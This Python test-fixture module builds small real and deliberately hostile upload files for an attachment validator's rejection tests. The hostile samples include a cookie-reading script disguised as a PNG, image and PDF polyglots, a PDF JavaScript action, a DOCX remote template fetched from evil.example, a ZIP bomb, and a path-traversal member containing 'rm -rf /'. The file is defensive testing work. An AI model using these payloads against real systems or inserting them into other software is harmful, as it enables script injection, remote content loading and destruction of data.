"""Small real files of each accepted type, and hostile ones, made in memory for tests."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib

from PIL import Image

DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Notes of the meeting.</w:t></w:r></w:p></w:body></w:document>"
)
REMOTE_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def png(size=(64, 48), colour=(200, 120, 140)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG")
    return out.getvalue()


def jpeg(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (90, 120, 200)).save(out, "JPEG")
    return out.getvalue()


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n"
        b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )


# A member written by name alone is dated now: two test workers collecting a second apart
# would then name a case after different bytes (and xdist refuses to run).
ZIP_DATE = (2026, 1, 1, 0, 0, 0)


def zipped(members: dict[str, bytes], entries=None) -> bytes:
    """The same bytes every time: these members (or these (name, bytes) pairs, duplicates allowed)."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # a duplicate name, made on purpose
        for name, data in entries if entries is not None else members.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def docx(**extra: bytes) -> bytes:
    return zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": DOCUMENT, **extra})


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_text(text: bytes) -> bytes:
    """A real PNG with a text chunk before its end (where polyglots hide markup)."""
    data = png()
    end = data.rindex(b"IEND") - 4
    return data[:end] + png_chunk(b"tEXt", b"Comment\x00" + text) + data[end:]


# name -> (bytes, the file name sent, words the refusal must contain)
BAD_FILES = {
    "html-named-png": (HTML, "photo.png", "not a PDF, JPEG, PNG or Word"),
    "empty": (b"", "empty.pdf", "empty"),
    "exe": (b"MZ\x90\x00" + b"\x00" * 200, "report.pdf", "not a PDF, JPEG, PNG or Word"),
    "png-then-html": (png() + HTML, "photo.png", "something else hidden after it"),
    "png-text-html": (png_with_text(HTML), "photo.png", "web-page code"),
    "truncated-png": (png()[:40], "photo.png", "PNG image"),
    "jpeg-then-html": (jpeg() + HTML, "photo.jpg", "JPEG image"),
    "pdf-named-zip": (zipped({"a.txt": b"hello"}), "minutes.pdf", "ZIP archive, not a Word document"),
    "pdf-zip-polyglot": (pdf() + zipped({"a.txt": b"hello"}), "minutes.pdf", "ZIP archive inside it"),
    "pdf-with-javascript": (
        pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript >>"),
        "minutes.pdf",
        "scripts",
    ),
    "docx-without-document": (zipped({"[Content_Types].xml": DOCX_TYPES}), "notes.docx", "not a Word document"),
    "docx-zip-bomb": (docx(**{"word/media/big.bin": b"\x00" * (30 * 1024 * 1024)}), "notes.docx", "ZIP bomb"),
    "docx-macros": (docx(**{"word/vbaProject.bin": b"macro"}), "notes.docx", "macros"),
    "docx-path-trick": (docx(**{"../../evil.sh": b"rm -rf /"}), "notes.docx", "unsafe paths"),
    "docx-named-pdf": (docx(), "notes.pdf", "its name ends .pdf but it is a Word document"),
    "docx-remote-template": (
        docx(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        "notes.docx",
        "loads content from elsewhere",
    ),
    "png-named-exe": (png(), "photo.exe", "its name ends .exe but it is a PNG image"),
}


def attach_png(app, entry_id: int, user_id: int, name: str = "arm.png", data: bytes | None = None) -> int:
    """An attachment on an entry (a PNG unless other `data` is given), stored as the app stores one; its id."""
    import hashlib

    from sqlalchemy import select

    from cpoms.attachments import operations, sniff
    from cpoms.attachments.models import Attachment
    from cpoms.attachments.uploads import Upload
    from cpoms.extensions import db
    from cpoms.models import Entry, User

    data = png() if data is None else data
    with app.test_request_context():
        operations.attach(
            db.session.get(User, user_id),
            db.session.get(Entry, entry_id),
            [Upload(data, name, sniff.identify(data), hashlib.sha256(data).hexdigest())],
        )
        db.session.commit()
        return db.session.scalar(select(Attachment.id).order_by(Attachment.id.desc()).limit(1))
